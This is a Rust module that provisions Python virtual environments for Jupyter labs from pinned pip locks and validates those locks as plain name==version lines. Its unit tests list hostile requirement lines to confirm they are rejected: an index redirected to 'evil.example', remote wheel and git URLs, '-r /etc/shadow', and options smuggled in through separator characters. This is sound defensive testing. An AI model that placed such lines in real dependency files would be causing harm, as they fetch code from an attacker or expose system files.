//! Lab environments: the software a lab runs. The node provisions an environment into a Python
//! virtual environment from its pinned lock the first time a lab needs it, showing progress,
//! and reuses it after. The lock's BLAKE3 names the environment (`jupyter-<hash>`), so two nodes
//! offering the same id with different software are told apart, in adverts and in provenance.
//!
//! Provisioning is safe to interrupt and to race: it holds a lock file while it builds, and an
//! environment counts as ready only once its `.ready` marker, written last, holds its lock.

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

/// The lock of the default `jupyter` environment.
pub const JUPYTER_LOCK: &str = include_str!("../../labs/jupyter.lock");

/// Why an environment could not be provisioned.
#[derive(Debug, thiserror::Error)]
pub enum EnvError {
    /// A file or directory could not be made or read.
    #[error("{path}: {source}", path = path.display())]
    Io {
        /// The path.
        path: PathBuf,
        /// Why.
        #[source]
        source: std::io::Error,
    },
    /// A step (making the virtual environment, installing packages) failed.
    #[error("{step} failed ({status}); its last output:\n{tail}")]
    Step {
        /// What was being done.
        step: &'static str,
        /// How it ended.
        status: String,
        /// Its last lines of output.
        tail: String,
    },
}

fn io(path: &Path) -> impl FnOnce(std::io::Error) -> EnvError + '_ {
    move |source| EnvError::Io {
        path: path.to_owned(),
        source,
    }
}

/// An environment a node offers.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Environment {
    /// Its id, as users ask for it (`jupyter`).
    pub id: String,
    /// What it holds, for people.
    pub description: String,
    /// Its pinned lock (a pip requirements file).
    pub lock: String,
    /// The image a backend that runs images starts for it, by digest; `None`: that backend's
    /// own image.
    pub image: Option<String>,
}

/// Whether `lock` is a plain pinned lock: comments and `name==version` lines only (extras and
/// environment markers allowed), so that a lock from a project can name no other index, no
/// URL, no local file and no option of pip's; why not if it is not.
pub fn check_lock(lock: &str) -> Result<(), String> {
    let plain_name = |s: &str| {
        !s.is_empty()
            && s.starts_with(|c: char| c.is_ascii_alphanumeric())
            && s.chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
    };
    // pip splits lines on more than `\n` (a lone `\r`, form feeds, Unicode separators): a lock
    // is printable ASCII and `\n` only, so that both read the same lines.
    if let Some(c) = lock
        .chars()
        .find(|c| !(*c == '\n' || (' '..='~').contains(c)))
    {
        return Err(format!(
            "the lock holds the character {c:?}; a pinned lock is printable ASCII, one requirement a line"
        ));
    }
    for (i, line) in lock.lines().enumerate() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let (requirement, marker) = line.split_once(';').unwrap_or((line, ""));
        let requirement = requirement.trim();
        let plain_marker = marker
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || " ._<>=!~'\"()-".contains(c));
        let ok = requirement.split_once("==").is_some_and(|(name, version)| {
            let name = match name.trim().split_once('[') {
                Some((n, extras))
                    if extras
                        .strip_suffix(']')
                        .is_some_and(|e| e.split(',').all(|x| plain_name(x.trim()))) =>
                {
                    n
                }
                Some(_) => "",
                None => name.trim(),
            };
            plain_name(name)
                && !version.is_empty()
                && version
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '+' | '!' | '_' | '-'))
        });
        if !ok || !plain_marker || line.contains(['@', '\\']) {
            return Err(format!(
                "line {} of the lock is not `name==version`: {line:?}; a pinned lock names packages and their versions only",
                i + 1
            ));
        }
    }
    Ok(())
}

/// How a backend runs `asked` (a project's pin of the offered environment `offered`): labs on
/// this machine (`here`) run its lock, which must be plain ([`check_lock`]); labs that run from
/// an image run its image, which it must name. `None`: as `offered` is, no pin needed.
pub fn as_run_by(
    offered: &Environment,
    asked: &Environment,
    here: bool,
) -> Result<Option<Environment>, String> {
    if !here && asked.image.is_none() && asked.lock != offered.lock {
        return Err(
            "a project's pinned package lock cannot be honoured by labs that run from an image; pin an image by digest too (`orrery project pin-environment --image`), or run it at a node whose labs run on their own machine".into(),
        );
    }
    let run = if here {
        Environment {
            image: None,
            ..asked.clone()
        }
    } else {
        Environment {
            lock: offered.lock.clone(),
            ..asked.clone()
        }
    };
    if run.lock == offered.lock && run.image == offered.image {
        return Ok(None);
    }
    if here {
        check_lock(&run.lock)
            .map_err(|why| format!("a project's pinned environment is refused: {why}"))?;
    }
    Ok(Some(run))
}

impl Environment {
    /// The default environment: Jupyter Server and JupyterLab, ipykernel, numpy, astropy,
    /// matplotlib, pyvo.
    pub fn jupyter() -> Self {
        Self {
            id: "jupyter".into(),
            description: "JupyterLab with a Python kernel, numpy, astropy, matplotlib and pyvo"
                .into(),
            lock: JUPYTER_LOCK.into(),
            image: None,
        }
    }

    /// The first 16 hex digits of the BLAKE3 of its lock (and its image, when it names one).
    pub fn hash(&self) -> String {
        let mut h = blake3::Hasher::new();
        h.update(self.lock.as_bytes());
        if let Some(image) = &self.image {
            h.update(b"\n@");
            h.update(image.as_bytes());
        }
        h.finalize().to_hex()[..16].to_owned()
    }

    /// The name it is provisioned and advertised under: `<id>-<hash>`.
    pub fn name(&self) -> String {
        format!("{}-{}", self.id, self.hash())
    }
}

/// A provisioned environment.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Provisioned {
    /// The virtual environment's directory (bound read-only into labs at the same path).
    pub root: PathBuf,
    /// Its Python.
    pub python: PathBuf,
    /// Whether this call built it (`false`: it was there).
    pub built: bool,
}

impl Provisioned {
    /// A program of the environment (`jupyter`, …).
    pub fn bin(&self, name: &str) -> PathBuf {
        self.root.join("bin").join(name)
    }
}

/// What provisioning is doing, for a progress display.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Progress {
    /// Waiting for another process that is provisioning the same environment.
    Waiting,
    /// Making the virtual environment.
    Creating,
    /// A line of the installer's output (`Collecting astropy==8.0.2`, …).
    Installing(String),
    /// Ready.
    Ready,
}

/// How many lines of a failed step's output its error keeps.
const TAIL_LINES: usize = 20;

/// Runs `cmd`, passing each output line to `line`; fails with the last lines when it fails.
fn run(step: &'static str, mut cmd: Command, line: &mut dyn FnMut(String)) -> Result<(), EnvError> {
    let mut child = cmd
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .map_err(|e| EnvError::Step {
            step,
            status: "not started".into(),
            tail: e.to_string(),
        })?;
    // Standard error is read on a thread of its own, so that neither pipe can fill and stall.
    let stderr = child.stderr.take().map(|e| {
        std::thread::spawn(move || {
            BufReader::new(e)
                .lines()
                .map_while(Result::ok)
                .collect::<Vec<_>>()
        })
    });
    let mut tail = std::collections::VecDeque::new();
    if let Some(out) = child.stdout.take() {
        for l in BufReader::new(out).lines().map_while(Result::ok) {
            if tail.len() == TAIL_LINES {
                tail.pop_front();
            }
            tail.push_back(l.clone());
            line(l);
        }
    }
    let errors = stderr.and_then(|t| t.join().ok()).unwrap_or_default();
    let status = child.wait().map_err(|e| EnvError::Step {
        step,
        status: "lost".into(),
        tail: e.to_string(),
    })?;
    if status.success() {
        return Ok(());
    }
    let mut lines: Vec<String> = tail.into_iter().collect();
    lines.extend(errors.into_iter().rev().take(TAIL_LINES).rev());
    Err(EnvError::Step {
        step,
        status: status.to_string(),
        tail: lines.join("\n"),
    })
}

/// The environment `env` under `dir`, provisioned with `python` if it is not there yet.
pub fn provision(
    dir: &Path,
    env: &Environment,
    python: &Path,
    progress: &mut dyn FnMut(Progress),
) -> Result<Provisioned, EnvError> {
    let root = dir.join(env.name());
    let ready = root.join(".ready");
    let found = |built| Provisioned {
        python: root.join("bin").join("python"),
        root: root.clone(),
        built,
    };
    let is_ready = || std::fs::read_to_string(&ready).is_ok_and(|l| l == env.lock);
    if is_ready() {
        progress(Progress::Ready);
        return Ok(found(false));
    }
    std::fs::create_dir_all(dir).map_err(io(dir))?;
    let lock_path = dir.join(format!("{}.lock", env.name()));
    let lock_file = std::fs::OpenOptions::new()
        .create(true)
        .truncate(false)
        .write(true)
        .open(&lock_path)
        .map_err(io(&lock_path))?;
    if rustix::fs::flock(
        &lock_file,
        rustix::fs::FlockOperation::NonBlockingLockExclusive,
    )
    .is_err()
    {
        progress(Progress::Waiting);
        rustix::fs::flock(&lock_file, rustix::fs::FlockOperation::LockExclusive)
            .map_err(|e| io(&lock_path)(e.into()))?;
    }
    // Another process may have finished it while this one waited.
    if is_ready() {
        progress(Progress::Ready);
        return Ok(found(false));
    }
    // What an interrupted attempt left is removed: a half-installed environment is never used.
    if root.exists() {
        std::fs::remove_dir_all(&root).map_err(io(&root))?;
    }
    progress(Progress::Creating);
    let mut venv = Command::new(python);
    venv.arg("-m").arg("venv").arg(&root);
    run("making the virtual environment", venv, &mut |_| {})?;
    let requirements = root.join("requirements.lock");
    std::fs::write(&requirements, &env.lock).map_err(io(&requirements))?;
    let mut pip = Command::new(root.join("bin").join("python"));
    pip.args([
        "-m",
        "pip",
        "install",
        "--no-input",
        "--disable-pip-version-check",
        "--progress-bar",
        "off",
        "--require-virtualenv",
        // No user or site configuration, no environment variables of pip's.
        "--isolated",
        "--only-binary",
        ":all:",
        "-r",
    ])
    .arg(&requirements);
    let installed = run("installing the packages", pip, &mut |l| {
        progress(Progress::Installing(l))
    });
    if let Err(e) = installed {
        let _ = std::fs::remove_dir_all(&root);
        return Err(e);
    }
    // Compiled once here, so that no lab pays for it (and the environment is read-only in labs).
    let mut compile = Command::new(root.join("bin").join("python"));
    compile
        // Isolated and without `site`: a package's `.pth` file never runs on the node, outside
        // the sandbox (its labs start it inside).
        .args(["-I", "-S", "-m", "compileall", "-q", "-j", "0"])
        .arg(&root);
    let _ = run("compiling the packages", compile, &mut |_| {});
    std::fs::write(&ready, &env.lock).map_err(io(&ready))?;
    progress(Progress::Ready);
    Ok(found(true))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_pin_runs_as_its_backend_can() {
        let offered = Environment::jupyter();
        let image = format!("registry.example.org/jupyter@sha256:{}", "0f".repeat(32));
        let lock_only = Environment {
            lock: format!("{JUPYTER_LOCK}# pinned\n"),
            ..Environment::jupyter()
        };
        let both = Environment {
            image: Some(image.clone()),
            ..lock_only.clone()
        };
        // Here: the lock, the image set aside; the default's lock needs no pin.
        let here = as_run_by(&offered, &both, true)
            .expect("runs")
            .expect("a pin");
        assert_eq!(
            (here.lock.as_str(), here.image),
            (lock_only.lock.as_str(), None)
        );
        let same = Environment {
            image: Some(image.clone()),
            ..Environment::jupyter()
        };
        assert_eq!(as_run_by(&offered, &same, true), Ok(None));
        // From an image: the image, with the offered lock; a lock alone is refused.
        let there = as_run_by(&offered, &both, false)
            .expect("runs")
            .expect("a pin");
        assert_eq!(there.image.as_deref(), Some(image.as_str()));
        assert_eq!(there.lock, offered.lock);
        assert!(as_run_by(&offered, &lock_only, false).is_err());
        // A lock that names an index is refused here.
        let hostile = Environment {
            lock: "--index-url http://evil.example/\nnumpy==1\n".into(),
            ..Environment::jupyter()
        };
        assert!(as_run_by(&offered, &hostile, true).is_err());
    }

    #[test]
    fn only_plain_locks_pass() {
        assert_eq!(check_lock(JUPYTER_LOCK), Ok(()));
        assert_eq!(
            check_lock("# c\nnumpy==2.1.3\nuvicorn[standard]==0.30.0 ; python_version >= '3.9'\n"),
            Ok(())
        );
        for bad in [
            "--index-url http://evil.example/simple\nnumpy==1",
            "-r /etc/shadow",
            "numpy @ https://evil.example/numpy.whl",
            "numpy>=1",
            "-e git+https://evil.example/x#egg=x",
            "./local.whl",
            "numpy==1 --hash=sha256:00",
            "numpy==",
            "# x\r--no-binary :all:\rnumpy==1",
            "numpy==1\u{2028}--index-url http://evil.example/",
            "numpy==1 ; python_version > '${HOME}'",
        ] {
            assert!(check_lock(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn the_lock_names_the_environment() {
        let a = Environment::jupyter();
        let mut b = a.clone();
        b.lock.push_str("extra==1.0\n");
        assert_eq!(a.name(), format!("jupyter-{}", a.hash()));
        assert_ne!(a.hash(), b.hash());
        assert!(a.lock.contains("jupyter_server=="), "{}", a.lock);
    }

    #[test]
    fn an_environment_is_built_once_and_a_failed_one_leaves_nothing() {
        let dir = tempfile::tempdir().expect("tempdir");
        // An empty lock: the virtual environment alone, with no download.
        let env = Environment {
            id: "bare".into(),
            description: "nothing installed".into(),
            image: None,
            lock: "# nothing\n".into(),
        };
        let mut seen = Vec::new();
        let made = provision(dir.path(), &env, Path::new("python3"), &mut |p| {
            seen.push(p)
        })
        .expect("provisions");
        assert!(made.built);
        assert!(made.python.exists());
        assert_eq!(seen.first(), Some(&Progress::Creating));
        assert_eq!(seen.last(), Some(&Progress::Ready));
        let again = provision(dir.path(), &env, Path::new("python3"), &mut |_| {}).expect("found");
        assert!(!again.built);

        // A package that does not exist: the error names the step and the installer's words,
        // and no environment is left behind to be mistaken for a ready one.
        let broken = Environment {
            id: "broken".into(),
            description: String::new(),
            image: None,
            lock: "--no-index\norrery-no-such-package==0.0.0\n".into(),
        };
        let e =
            provision(dir.path(), &broken, Path::new("python3"), &mut |_| {}).expect_err("fails");
        let text = e.to_string();
        assert!(text.contains("installing the packages"), "{text}");
        assert!(text.contains("orrery-no-such-package"), "{text}");
        assert!(!dir.path().join(broken.name()).exists());
    }
}
